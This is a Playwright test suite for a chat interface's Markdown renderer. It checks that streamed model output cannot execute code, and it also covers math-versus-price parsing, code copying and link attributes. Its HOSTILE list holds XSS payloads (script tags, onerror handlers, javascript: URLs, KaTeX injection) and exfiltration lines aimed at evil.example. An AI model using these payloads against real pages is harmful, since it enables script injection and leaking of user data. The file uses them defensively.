"""What a model writes is shown as Markdown, and does nothing."""
import pytest

from helpers.page_server import Scripted

expect = pytest.importorskip("playwright.sync_api", reason="scripts/test_page.sh installs it").expect
pytestmark = pytest.mark.browser

HOSTILE = [
    "<script>window.hurt = 1</script>",
    "<img src=x onerror='window.hurt = 1'>",
    "<img src=https://evil.example/x.png>",
    "![see](https://evil.example/x.png?q=secret)",
    "[click](javascript:window.hurt=1)",
    "[click](JaVaScRiPt&colon;window.hurt=1)",
    "[click](data:text/html,<script>window.hurt=1</script>)",
    "<a href='javascript:window.hurt=1'>x</a>",
    "<svg onload='window.hurt=1'><circle></svg>",
    "<iframe src='javascript:parent.hurt=1'></iframe>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<form action=https://evil.example><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>",
    "`<img src=x onerror=window.hurt=1>`",
    "```html\n<img src=x onerror=window.hurt=1>\n```",
    "```\"><img src=x onerror=window.hurt=1>\ncode\n```",
    "$\\href{javascript:window.hurt=1}{x}$ and $\\includegraphics{https://evil.example/x.png}$",
    "$$\\htmlStyle{position:fixed}{x} \\url{javascript:window.hurt=1}$$",
    "$<img src=x onerror=window.hurt=1>$",
    "| a |\n|---|\n| <img src=x onerror=window.hurt=1> |",
    "[x]: javascript:window.hurt=1\n\n[x]",
    "<https://evil.example/\"onmouseover=window.hurt=1>",
    "</div></article></main><script>window.hurt=1</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_a_model_writes_does_anything(visit, page, server, text):
    size = 3
    server.answers.append(Scripted([text[at:at + size] for at in range(0, len(text), size)], pace=0.002))
    visit.ask_and_wait("<img src=x onerror='window.hurt = 1'>")
    page.wait_for_timeout(100)
    assert page.evaluate("window.hurt") is None
    found = page.evaluate("""() => {
        const place = document.getElementById("messages");
        const bad = "script, style, iframe, img, form:not(.editor), meta, link, base, object, embed, input";
        const attributes = [...place.querySelectorAll("*")].flatMap(element => [...element.attributes]);
        return [...place.querySelectorAll(bad)].map(element => element.outerHTML).concat(
            attributes.filter(({name, value}) => name.startsWith("on") || /^\\s*(javascript|data):/i.test(value))
                .map(({name, value}) => `${name}=${value}`));
    }""")
    assert found == []


@pytest.mark.parametrize("text", [
    "<code>x</code>", "Use <code> and </code>.", "a <b>bold</b> move",
    "<details>\n<summary>x</summary>\ny\n</details>",
    "if a<b and c>d: pass", "&lt;tag&gt; &amp; <!-- note -->"])
def test_html_is_shown_as_the_text_that_it_is(visit, server, text):
    server.answers.append(Scripted([text]))
    visit.ask_and_wait("q")
    shown = visit.answers().inner_text().replace("\n", "")
    meant = text.replace("\n", "").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert shown == meant


@pytest.mark.parametrize("text", ["```python\nprint(1)", "```", "~~~\n<b>", "- a\n  ```\n  x", "`open", "**open",
                                  "$$\nx", "\\[ x", "[link](http", "| a |\n|--", "<div"])
def test_what_is_not_closed_is_harmless(visit, page, server, text):
    server.answers.append(Scripted(list(text)))
    visit.ask_and_wait("q")
    visit.ask_and_wait("next")
    expect(visit.answers().nth(1)).to_have_text("You said: next")


def test_code_is_colored_and_copied(visit, page, server):
    visit.context.grant_permissions(["clipboard-read", "clipboard-write"])
    server.answers.append(Scripted(["```python\n", "def f():\n", "    return '<b>'\n", "```\n"]))
    visit.ask_and_wait("q")
    expect(page.locator(".code-head")).to_contain_text("python")
    assert page.locator(".code .hljs-keyword").all_inner_texts() == ["def", "return"]
    page.click("[aria-label='Copy code']")
    expect(page.locator(".code [aria-label=Copied]")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "def f():\n    return '<b>'"
    page.locator(".answer .actions [aria-label=Copy]").click()
    expect(page.locator(".actions [aria-label=Copied]")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").startswith("```python\n")


@pytest.mark.parametrize("text, formulas", [
    ("a $x^2$ b", ["x^2"]),
    ("公式$x$是", ["x"]),
    ("\\(a_1 + b_1\\) and \\[c\\]", ["a_1 + b_1", "c"]),
    ("$$\n\\frac{a}{b}\n$$", ["\\frac{a}{b}"]),
    ("so:\n\\[\nx = 1\n- y\n\\]\nthen", ["x = 1\n- y"]),
    ("- item $i$\n- item $$j$$", ["i", "j"]),
    ("$a*b*c$ and $d_e f_g$", ["a*b*c", "d_e f_g"]),
    ("| $x$ | y |\n|---|---|\n| $z$ | 1 |", ["x", "z"]),
    ("**$x$**", ["x"]),
    ("It costs $5 and $6.", []),
    ("$5-$6, US$5, A$6, $5/$6, ($5)-($6)", []),
    ("$5, $10 or $20; 3$ and 4$", []),
    ("$HOME/bin:$PATH", []),
    ("`$x$` and `\\(y\\)`", []),
    ("```\n$x$\n$$y$$\n```", []),
    ("\\$x\\$ and \\\\(y\\\\)", []),
    ("$5 `a$`", []),
    ("$5$, $2x$, $3 + 4$, $3 \\times 4$", ["5", "2x", "3 + 4", "3 \\times 4"]),
    ("an open $x and\n\na closed y$", []),
    ("$x$ costs $5 or $6", ["x"]),
])
def test_mathematics_and_prices(visit, page, server, text, formulas):
    server.answers.append(Scripted([text]))
    visit.ask_and_wait("q")
    found = [source.strip() for source in page.locator(".answer .katex annotation").all_text_contents()]
    assert found == formulas
    assert page.locator(".katex-error").count() == 0


def test_a_formula_that_is_none_is_shown(visit, page, server):
    server.answers.append(Scripted(["$\\frac{a$ and 中文 $中文$"]))
    visit.ask_and_wait("q")
    expect(visit.answers()).to_contain_text("\\frac{a")


def test_growing_it_shows_what_the_whole_text_shows(page):
    text = ("# Title\n\nA *b* `c` [d](https://e.f) [ref]\n\n1. one\n2. two\n   - deep\n\n   more\n3. three\n\n"
            "```js\nlet a = `b`;\n\nf()\n```\n\n> quote\n> goes on\n\n| a | b |\n|---|:-:|\n| $x$ | 2 |\n\n"
            "$$\ny\n$$\nSetext\n======\nlast <b>html</b>\n\n- [x] done\n- [ ] open\n\n[ref]: https://g.h\n\ttab\r\nend")
    results = page.evaluate("""async text => {
        const {GrowingMarkdown} = await import("./growing.js");
        const html = root => root.innerHTML;
        const whole = document.createElement("div");
        new GrowingMarkdown(whole).show(text, true);
        const wrong = [];
        for (const size of [1, 2, 5, 17]) {
            const root = document.createElement("div");
            const growing = new GrowingMarkdown(root);
            for (let end = size; end < text.length; end += size) growing.show(text.slice(0, end), false);
            growing.show(text, true);
            if (html(root) !== html(whole)) wrong.push([size, html(root), html(whole)]);
        }
        return wrong;
    }""", text)
    assert results == []


def test_links_open_elsewhere_and_tell_nothing(visit, page, server):
    server.answers.append(Scripted(["[a](https://example.com/) [b](mailto:a@b.c) [c](/v1/models) [d](#x)"]))
    visit.ask_and_wait("q")
    links = page.evaluate("[...document.querySelectorAll('.markdown a')].map(a => [a.textContent, a.rel, a.target, "
                          "a.hasAttribute('href')])")
    safe = "noopener noreferrer nofollow"
    assert [link for link in links if link[3]] == [["a", safe, "_blank", True], ["b", safe, "_blank", True]]
